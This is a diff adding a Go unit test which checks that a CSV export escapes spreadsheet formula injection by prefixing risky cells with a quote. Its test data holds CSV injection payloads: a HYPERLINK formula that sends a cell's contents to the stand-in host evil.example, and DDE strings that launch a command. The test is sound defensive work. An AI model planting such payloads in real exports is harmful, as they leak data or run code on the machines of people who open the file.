@@ -2,6 +2,7 @@ package delivery_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"slices"
 	"strings"
@@ -100,5 +101,56 @@ func TestLeaves(t *testing.T) {
 	want := [][2]string{{"/a", "null"}, {"/b/0", "1"}, {"/b/1/c~1d", "x~"}, {"/e", "true"}}
 	if !slices.Equal(got, want) {
 		t.Errorf("Leaves = %v, want %v", got, want)
+	}
+}
+
+// TestCSVEscapesFormulas: a value a spreadsheet would run as a formula
+// is written with a leading single quote (OWASP's CSV injection rule); a
+// number, negative or not, and plain text are written as they are.
+func TestCSVEscapesFormulas(t *testing.T) {
+	t.Parallel()
+	task := testTask(t)
+	out := map[string]any{
+		"a": `=HYPERLINK("http://evil.example/?x="&A1,"open")`,
+		"b": `+cmd|' /C calc'!A0`,
+		"c": "@SUM(1+1)*cmd|' /C calc'!A0",
+		"d": "-2+3+cmd|' /C calc'!A0",
+		"e": "\t=1+1",
+		"f": "\r=1+1",
+		"g": -5,
+		"h": -1.5e3,
+		"i": "plain text, with = inside",
+		"j": "'already quoted",
+	}
+	raw, _ := json.Marshal(out)
+	task.Deliverables = []delivery.Artifact{{StepID: "assign", Status: trace.StepSucceeded, Output: raw}}
+	var b bytes.Buffer
+	if err := delivery.Formats()[0].Render(&b, task); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, r := range rows[1:] {
+		got[strings.TrimPrefix(r[1], "/")] = r[2]
+	}
+	want := map[string]string{
+		"a": `'=HYPERLINK("http://evil.example/?x="&A1,"open")`,
+		"b": `'+cmd|' /C calc'!A0`,
+		"c": "'@SUM(1+1)*cmd|' /C calc'!A0",
+		"d": "'-2+3+cmd|' /C calc'!A0",
+		"e": "'\t=1+1",
+		"f": "'\r=1+1",
+		"g": "-5",
+		"h": "-1500",
+		"i": "plain text, with = inside",
+		"j": "'already quoted",
+	}
+	for k, w := range want {
+		if got[k] != w {
+			t.Errorf("cell of /%s = %q, want %q", k, got[k], w)
+		}
 	}
 }
